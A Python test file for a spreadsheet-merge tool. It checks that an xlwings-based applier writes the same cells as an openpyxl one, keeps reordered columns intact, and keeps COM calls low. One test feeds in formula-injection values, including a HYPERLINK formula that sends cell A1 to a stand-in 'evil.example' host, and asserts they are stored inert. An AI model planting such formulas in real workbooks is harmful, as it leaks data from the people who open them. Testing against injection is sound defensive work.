"""The plan applied through xlwings (stand-in) gives the same cells as the openpyxl applier on the same master."""

from __future__ import annotations

import datetime as dt
import shutil
from pathlib import Path
from typing import Any

import openpyxl

from sheetsync.core.merge import Unread, plan_merge
from sheetsync.core.plan import Plan
from sheetsync.excel.apply import apply_plan as apply_with_openpyxl
from sheetsync.excel.merge_state import read_merge_state
from sheetsync.excelui.xl_apply import apply_plan as apply_with_xlwings
from sheetsync.excelui.xlbook import XlMaster
from sheetsync.jobs.load import load
from sheetsync.problems import Code, Problem
from sheetsync.schema import MERGE_STATE
from tests.excelui.fake_xlwings import FakeBook, Formula
from tests.factories import make_master
from tests.merge_support import AS_OF, NOW, coord_row, lead_row, submission

Cells = dict[str, dict[tuple[int, int], Any]]


def file_cells(path: Path) -> Cells:
    wb = openpyxl.load_workbook(path)
    found = {
        ws.title: {(c.row, c.column): c.value for row in ws.iter_rows() for c in row if c.value not in (None, "")}
        for ws in wb.worksheets
    }
    wb.close()
    return found


def fake_cells(book: FakeBook) -> Cells:
    return {sheet.name: {k: v for k, v in sheet.cells.items() if v not in (None, "")} for sheet in book.sheets}


def plan_for(path: Path, *subs: Any, now: dt.datetime = NOW) -> Plan:
    loaded = load(path)
    assert loaded.book is not None and loaded.program is not None
    state, problems = read_merge_state(loaded.book, loaded.program)
    assert problems == []
    return plan_merge(loaded.program, state, subs, as_of=AS_OF, now=now)


def both_ways(path: Path, book: FakeBook, plan: Plan) -> None:
    loaded = load(path)
    assert loaded.book is not None
    apply_with_openpyxl(loaded.book, plan)
    loaded.book.wb.save(path)
    apply_with_xlwings(XlMaster(book), plan)


def test_same_cells_as_the_openpyxl_applier_over_two_runs(tmp_path: Path) -> None:
    path = make_master(tmp_path)
    book = FakeBook.from_file(path)
    program = load(path).program
    assert program is not None
    payloads = {"result": '=HYPERLINK("http://evil.example/?"&A1,"Bấm")', "proposals": "+1+2", "difficulties": "50"}
    lead = submission(program, "KTHTDT", [lead_row(program, 8, "1.1.2", progress=75, **payloads)], file="kt.xlsx")
    coord = submission(program, "VP", [coord_row(program, 9, "1.1.2", result="Đã đôn đốc")], file="thu.eml › vp.xlsx")
    rejected = Unread("hong.xlsx", "f" * 64, (Problem.make(Code.file_empty, file="hong.xlsx"),))
    both_ways(path, book, plan_for(path, lead, coord, rejected))
    assert fake_cells(book) == file_cells(path)

    later = submission(
        program, "KTHTDT", [lead_row(program, 8, "1.1.2", progress=80)], report_date=dt.date(2026, 3, 20)
    )
    both_ways(path, book, plan_for(path, later, now=NOW + dt.timedelta(days=1)))
    assert fake_cells(book) == file_cells(path)
    assert not book.sheets[MERGE_STATE.name].visible
    assert not any(isinstance(v, Formula) for sheet in book.sheets for v in sheet.cells.values())


def test_an_empty_plan_writes_nothing(tmp_path: Path) -> None:
    path = make_master(tmp_path)
    book = FakeBook.from_file(path)
    before = fake_cells(book)
    apply_with_xlwings(XlMaster(book), Plan(NOW))
    assert fake_cells(book) == before and all(sheet.writes == 0 for sheet in book.sheets)


def test_staff_columns_and_reordered_columns_are_respected(tmp_path: Path) -> None:
    path = make_master(tmp_path)
    wb = openpyxl.load_workbook(path)
    ws = wb["Nhiệm vụ"]
    ws.insert_cols(1)
    ws.cell(7, 1, "giữ nguyên")
    wb.save(path)
    shutil.copy(path, tmp_path / "before.xlsx")
    book = FakeBook.from_file(path)
    program = load(path).program
    assert program is not None
    sub = submission(program, "KTHTDT", [lead_row(program, 8, "1.1.2", progress=75)])
    both_ways(path, book, plan_for(path, sub))
    assert fake_cells(book) == file_cells(path)
    assert book.sheets["Nhiệm vụ"].cells[(7, 1)] == "giữ nguyên"


def _catch_up(path: Path, reports: int) -> Plan:
    """A unit's reports of many weeks merged at once, as after the office was away: each report a day later."""
    program = load(path).program
    assert program is not None
    subs = [
        submission(
            program,
            "KTHTDT",
            [lead_row(program, 8, "1.1.2", progress=i % 100, result=f"Báo cáo lần {i}")],
            report_date=dt.date(2026, 1, 1) + dt.timedelta(days=i),
            file=f"kt-{i}.xlsx",
            salt=str(i),
        )
        for i in range(reports)
    ]
    return plan_for(path, *subs, now=dt.datetime(2026, 12, 28, 8, 0))


def test_a_catch_up_of_hundreds_of_reports_costs_as_many_com_calls_as_a_few(tmp_path: Path) -> None:
    calls = {}
    for reports in (3, 300):
        path = make_master(tmp_path / str(reports))
        book = FakeBook.from_file(path)
        plan = _catch_up(path, reports)
        assert len(list(plan.journal_rows())) == reports
        both_ways(path, book, plan)
        assert fake_cells(book) == file_cells(path)  # the same cells as the openpyxl applier, in fewer calls
        calls[reports] = dict(book.com_calls)
    # one block per log sheet: its value calls and one number_format per date column, whatever the rows
    assert calls[300] == calls[3]
    assert sum(calls[300].values()) < 25
